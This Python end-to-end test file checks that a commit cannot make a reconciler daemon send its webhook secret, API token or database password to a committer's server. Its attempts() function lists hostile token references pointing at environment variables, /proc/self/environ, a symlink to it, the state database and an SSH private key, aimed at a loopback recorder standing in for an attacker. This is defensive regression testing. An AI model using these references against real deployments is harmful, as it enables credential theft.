"""Issue 16, problem 3: whoever can commit cannot send the reconciler's own secrets anywhere.

A real daemon (real git repo, real SQLite, real HTTP) runs with a webhook secret in its
environment, an API token file and a database password variable. A commit then points Coolify
Targets at a loopback server of the "attacker" that records every byte it receives, with a
token reference to each of the daemon's credential classes. Before the fix the recorder got
them as bearer tokens and a ``{file: /proc/self/environ}`` token put the daemon's whole
environment into `status -o json`, `history -o json` and the log.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import free_port, git, wait_for

HOOK_ENV = "FRAISIER_SEC_GH_HOOK"  # the daemon's --webhook-secret github=env:… variable
HOOK_SECRET = "s3cr3t-HOOK-5b1e77c2a9d04f"
API_TOKEN = "s3cr3t-APITOKEN-0c9d4be8a711f2"
DB_PASSWORD = "s3cr3t-DBPASS-e4a2f9170b3c"
SECRETS = (HOOK_SECRET, API_TOKEN, DB_PASSWORD)


class Recorder:
    """The committer's server on loopback: records every request, answers 401."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                recorder.received.append(
                    f"{self.requestline}\n{self.headers}".encode("latin-1") + body)
                payload = b'{"message":"Unauthenticated."}'
                self.send_response(401)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

            do_GET = do_POST = do_PATCH = do_DELETE = _any

            def log_message(self, *args: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def leaked(self) -> list[str]:
        data = b"\n".join(self.received)
        return [s for s in SECRETS if s.encode() in data]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    yield server
    server.close()


def coolify_pair(name: str, url: str, token: str) -> str:
    return f"""---
apiVersion: fraisier.dev/v1
kind: Target
metadata: {{name: {name}}}
spec:
  provider: coolify
  url: {url}
  token: {token}
  retry: {{attempts: 1}}
---
apiVersion: fraisier.dev/v1
kind: Service
metadata: {{name: app-{name}}}
spec:
  target: {name}
  coolify: {{uuid: app-{name}-uuid}}
"""


def attempts(tmp: Path, url: str, state: Path, api_token_file: Path) -> dict[str, str]:
    """Target name -> token reference, one per credential class of the daemon."""
    link = tmp / "innocent-token"
    link.symlink_to("/proc/self/environ")
    return {
        "hook": f"{{env: {HOOK_ENV}}}",                          # webhook secret
        "apitoken": f"{{file: {api_token_file}}}",               # API token file
        "apienv": "{env: RECONCILER_API_TOKEN}",                 # API token variable
        "dbpass": "{env: RECONCILER_DB_PASSWORD}",               # database password
        "pgpass": "{env: PGPASSWORD}",                           # libpq's password variable
        "environ": "{file: /proc/self/environ}",                 # the whole environment
        "link": f"{{file: {link}}}",                             # a symlink to it
        "statedb": f"{{file: {state / 'fraisier.db'}}}",         # the state database
        "sshkey": f"{{file: {Path.home() / '.ssh' / 'id_ed25519'}}}",  # the SSH key
    }


def write_bad_commit(repo: Path, url: str, refs: dict[str, str]) -> None:
    text = "".join(coolify_pair(name, url, ref) for name, ref in refs.items())
    (repo / "fleet" / "paas.yaml").write_text(text)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    repo = tmp_path / "config"
    (repo / "fleet").mkdir(parents=True)
    (repo / "fleet" / "target.yaml").write_text(f"""apiVersion: fraisier.dev/v1
kind: Target
metadata: {{name: local}}
spec: {{provider: bare_metal, transport: local, root: {tmp_path / 'root'}}}
""")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "good")
    return repo


def daemon_env() -> dict[str, str]:
    return {**os.environ, HOOK_ENV: HOOK_SECRET, "RECONCILER_DB_PASSWORD": DB_PASSWORD,
            "PGPASSWORD": DB_PASSWORD, "RECONCILER_POLICY": ""}


def readyz(port: int) -> dict[str, Any]:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/readyz", timeout=2) as r:
            return dict(json.loads(r.read()))
    except urllib.error.HTTPError as exc:
        return dict(json.loads(exc.read()))
    except OSError:
        return {}


def metric(port: int, name: str) -> str:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=2) as r:
        lines = r.read().decode().splitlines()
    return "\n".join(line for line in lines if line.startswith(name))


def cli(state: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[
        str]:
    return subprocess.run([sys.executable, "-m", "reconciler", "--state-dir", str(state), *args],
                          capture_output=True, text=True, timeout=60, env=env or daemon_env())


@pytest.mark.timeout(120)
def test_a_commit_cannot_reach_the_daemons_credentials(
        tmp_path: Path, repo: Path, recorder: Recorder) -> None:
    state = tmp_path / "state"
    api_token_file = tmp_path / "api-token"
    api_token_file.write_text(API_TOKEN + "\n")
    port = free_port()
    log_path = tmp_path / "daemon.log"
    with log_path.open("wb") as log:
        proc = subprocess.Popen(
            [sys.executable, "-m", "reconciler", "--state-dir", str(state), "daemon",
             "--repo", str(repo), "--path", "fleet", "--listen", f"127.0.0.1:{port}",
             "--interval", "1s", "--webhook-secret", f"github=env:{HOOK_ENV}",
             "--api-token-file", str(api_token_file)],
            stdout=log, stderr=subprocess.STDOUT, env=daemon_env())
    try:
        good = git(repo, "rev-parse", "HEAD")
        wait_for(lambda: readyz(port).get("commit") == good, timeout=30)
        write_bad_commit(repo, recorder.url, attempts(tmp_path, recorder.url, state,
                                                      api_token_file))
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "exfiltrate")
        bad = git(repo, "rev-parse", "HEAD")
        # refused as a whole: /readyz names the commit and the policy, the last good one stays
        ready = wait_for(lambda: (r := readyz(port)).get("lastError") and bad[:12] in
                         r["lastError"] and r, timeout=30)
        assert ready["commit"] == good and ready["ready"] is True
        assert "operator policy" in ready["lastError"]
        # a few more polls of the same commit: still nothing sent, audited once
        time.sleep(3)
        assert 'reason="policy"} 1.0' in metric(port, "reconciler_desired_state_refused_total")
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
    assert recorder.received == [], f"the committer's server received {recorder.leaked()}"
    audit = json.loads(cli(state, "audit", "-o", "json").stdout)
    refusals = [e for e in audit if e["action"] == "refuse"]
    assert len(refusals) == 1 and refusals[0]["configCommit"] == bad, audit
    # every reference is named in the log, none of the values anywhere
    logged = log_path.read_text()
    for ref in ("env:FRAISIER_SEC_GH_HOOK", "/proc/self/environ", "RECONCILER_DB_PASSWORD",
                "PGPASSWORD", "RECONCILER_API_TOKEN", "id_ed25519", "fraisier.db",
                str(api_token_file), "innocent-token"):
        assert ref in logged, ref
    outputs = logged + cli(state, "status", "-o", "json").stdout + json.dumps(audit)
    assert not [s for s in SECRETS if s in outputs]


@pytest.mark.timeout(60)
def test_validate_and_apply_refuse_each_attempt_with_its_location(
        tmp_path: Path, repo: Path, recorder: Recorder) -> None:
    state = tmp_path / "state"
    api_token_file = tmp_path / "api-token"
    api_token_file.write_text(API_TOKEN + "\n")
    refs = attempts(tmp_path, recorder.url, state, api_token_file)
    # only the daemon knows its flags' variables and files, and apply its state dir
    del refs["hook"], refs["apitoken"]
    write_bad_commit(repo, recorder.url, refs)
    checked = cli(state, "validate", str(repo / "fleet"))
    assert checked.returncode == 2, checked
    lines = [line for line in checked.stderr.splitlines() if "paas.yaml:" in line]
    assert len(lines) == len(refs) - 1, checked.stderr
    text = (repo / "fleet" / "paas.yaml").read_text().splitlines()
    for line in lines:  # file:line:col points at the token's value
        _, row, col, _ = line.split(":", 3)
        assert text[int(row) - 1][int(col) - 1:].startswith("{"), line
    assert "hint: the operator policy (docs/security.md) forbids" in checked.stderr
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "exfiltrate")
    applied = cli(state, "apply", "--repo", str(repo), "--path", "fleet")
    assert applied.returncode == 2, applied
    assert len([line for line in applied.stderr.splitlines() if "paas.yaml:" in line]) == \
        len(refs), applied.stderr
    assert recorder.received == [], recorder.leaked()
    assert not [s for s in SECRETS if s in applied.stdout + applied.stderr]


@pytest.mark.timeout(60)
def test_a_token_file_with_several_lines_never_reaches_an_error(
        tmp_path: Path, repo: Path, recorder: Recorder) -> None:
    """The source of the /proc/self/environ leak: a token with a line break went into the
    Authorization header, httpx refused it and quoted it (escaped, so redaction missed it)."""
    state = tmp_path / "state"
    token = tmp_path / "secrets" / "token"
    token.parent.mkdir()
    token.write_text(f"first-line\n{HOOK_ENV}={HOOK_SECRET}\nDB={DB_PASSWORD}\n")
    write_bad_commit(repo, recorder.url, {"multi": f"{{file: {token}}}"})
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "multi-line token")
    applied = cli(state, "--log-format", "json", "apply", "--repo", str(repo), "--path", "fleet",
                  "-o", "json")
    assert applied.returncode == 1, applied
    history = cli(state, "history", "app-multi", "-o", "json")
    status = cli(state, "status", "-o", "json")
    everything = applied.stdout + applied.stderr + history.stdout + status.stdout
    assert "is not a bearer token" in everything, everything
    assert not [s for s in SECRETS if s in everything], everything
    assert recorder.received == []
